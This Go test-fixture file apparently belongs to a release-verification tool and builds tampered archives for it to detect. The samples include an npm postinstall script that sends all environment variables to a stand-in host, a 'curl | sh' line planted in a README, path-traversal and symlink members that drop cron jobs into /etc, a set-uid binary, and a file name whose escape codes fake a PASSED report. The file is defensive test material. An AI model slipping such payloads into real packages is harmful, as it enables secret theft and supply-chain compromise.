package vendors

import (
	"bytes"
	"compress/gzip"
)

// packaged are archives that hold an honest program, and something else that matters.
var packaged = []release{
	{
		name: "tampered-container", row: "F1", about: "the archive of v1.3.0 around the scanner that sends files away",
		repo: "repo", commit: "v1.3.0", file: "kestrel_linux_amd64.tar.gz", mode: 0o644, want: different,
		make: func(m *maker) ([]byte, error) {
			scanner, err := tampered(m)
			if err != nil {
				return nil, err
			}
			return m.container("repo", "v1.3.0", scanner)
		},
	},
	{
		name: "postinstall", row: "F1", about: "an npm package: the honest program, and a script that runs when it is installed",
		repo: "repo", commit: "v1.2.0", file: "kestrel-1.2.0.tgz", mode: 0o644, want: partial,
		make: npmPackage,
	},
	{
		name: "postinstall-member", row: "F1", about: "the program in that package alone; the verdict speaks of nothing else",
		repo: "repo", commit: "v1.2.0", member: "package/bin/kestrel", file: "kestrel-1.2.0.tgz", mode: 0o644, want: identical,
		make: npmPackage,
	},
	{
		name: "postinstall-policy", row: "F1", about: "the whole package, judged by a policy that takes archives whose members are all accounted for",
		repo: "repo", commit: "v1.2.0", args: []string{"--policy", "policies/partial.toml"}, file: "kestrel-1.2.0.tgz", mode: 0o644, want: partial,
		make: npmPackage,
	},
	{
		name: "altered-document", row: "F1", about: "the archive of v1.2.0 with another README than the commit has",
		repo: "repo", commit: "v1.2.0", file: "kestrel-1.2.0-linux-amd64.tar.gz", mode: 0o644, want: partial,
		make: repacked(func(members []member) []member {
			readme := &members[len(members)-1]
			readme.data = append([]byte("Run it as root: curl https://install.invalid | sh\n\n"), readme.data...)
			return members
		}),
	},
	{
		name: "set-uid", row: "68", about: "the honest programs, one of them set-uid root",
		repo: "repo", commit: "v1.2.0", file: "kestrel-1.2.0-linux-amd64.tar.gz", mode: 0o644,
		want: want{"failed", "", "rebuild.match"},
		make: repacked(setUID),
	},
	{
		name: "set-uid-member", row: "68", about: "the set-uid program in that archive alone",
		repo: "repo", commit: "v1.2.0", member: "kestrel-1.2.0/kestrel", file: "kestrel-1.2.0-linux-amd64.tar.gz", mode: 0o644,
		want: want{"failed", "", "rebuild.match"},
		make: repacked(setUID),
	},
	{
		name: "duplicate-member", row: "64", about: "two members of one name: the honest program first, another one after it",
		repo: "repo", commit: "v1.2.0", member: "kestrel-1.2.0/kestrel", file: "kestrel-1.2.0-linux-amd64.tar.gz", mode: 0o644, want: refused,
		make: repacked(func(members []member) []member {
			return append(members, member{name: members[0].name, data: []byte("#!/bin/sh\nexec /opt/collector/run\n"), mode: 0o755})
		}),
	},
	{
		name: "alias-member", row: "64", about: "the same, the second one named with ./ before it",
		repo: "repo", commit: "v1.2.0", member: "kestrel-1.2.0/kestrel", file: "kestrel-1.2.0-linux-amd64.tar.gz", mode: 0o644, want: refused,
		make: repacked(func(members []member) []member {
			return append(members, member{name: "./" + members[0].name, data: []byte("#!/bin/sh\nexec /opt/collector/run\n"), mode: 0o755})
		}),
	},
	{
		name: "escaping-member", row: "60", about: "a member that is written above the folder that it is unpacked in",
		repo: "repo", commit: "v1.2.0", member: "kestrel-1.2.0/kestrel", file: "kestrel-1.2.0-linux-amd64.tar.gz", mode: 0o644, want: refused,
		make: repacked(func(members []member) []member {
			return append(members, member{name: "../../etc/cron.d/kestrel", data: []byte("* * * * * root /opt/collector/run\n")})
		}),
	},
	{
		name: "link-parent", row: "61", about: "a member below a link that points to /etc",
		repo: "repo", commit: "v1.2.0", member: "kestrel-1.2.0/kestrel", file: "kestrel-1.2.0-linux-amd64.tar.gz", mode: 0o644, want: refused,
		make: repacked(func(members []member) []member {
			return append(members, member{name: "kestrel-1.2.0/etc", link: "/etc"},
				member{name: "kestrel-1.2.0/etc/cron.d/kestrel", data: []byte("* * * * * root /opt/collector/run\n")})
		}),
	},
	{
		name: "second-stream", row: "65", about: "a second gzip stream after the archive, which many tools read on into",
		repo: "repo", commit: "v1.2.0", member: "kestrel-1.2.0/kestrel", file: "kestrel-1.2.0-linux-amd64.tar.gz", mode: 0o644, want: refused,
		make: func(m *maker) ([]byte, error) {
			data, err := honestArchive(m)
			if err != nil {
				return nil, err
			}
			var more bytes.Buffer
			z := gzip.NewWriter(&more)
			if _, err := z.Write([]byte("#!/bin/sh\nexec /opt/collector/run\n")); err != nil {
				return nil, err
			}
			return append(data, more.Bytes()...), z.Close()
		},
	},
	{
		name: "control-names", row: "80", about: "a member whose name draws a green PASSED over the report",
		repo: "repo", commit: "v1.2.0", file: "kestrel-1.2.0-linux-amd64.tar.gz", mode: 0o644, want: partial,
		make: repacked(func(members []member) []member {
			return append(members, member{name: "kestrel-1.2.0/\x1b[2K\x1b[32mPASSED\u202e", data: []byte("x\n")})
		}),
	},
}

// repacked is the archive of v1.2.0 with other members.
func repacked(change func([]member) []member) func(*maker) ([]byte, error) {
	return func(m *maker) ([]byte, error) {
		members, err := honestMembers(m)
		if err != nil {
			return nil, err
		}
		return tarball(day(2, 2), change(members)...)
	}
}

func setUID(members []member) []member {
	members[0].mode = 0o4755
	return members
}

func npmPackage(m *maker) ([]byte, error) {
	members, err := honestMembers(m)
	if err != nil {
		return nil, err
	}
	manifest := `{
  "name": "@kestrel/scanner",
  "version": "1.2.0",
  "bin": { "kestrel": "bin/kestrel" },
  "scripts": { "postinstall": "node postinstall.js" }
}
`
	script := `require("https").get("https://collector.invalid/?" + encodeURIComponent(JSON.stringify(process.env)))
`
	return tarball(day(2, 2),
		member{name: "package/package.json", data: []byte(manifest)},
		member{name: "package/postinstall.js", data: []byte(script)},
		member{name: "package/bin/kestrel", data: members[0].data, mode: 0o755},
		member{name: "package/LICENSE", data: members[2].data},
		member{name: "package/README.md", data: members[3].data},
	)
}
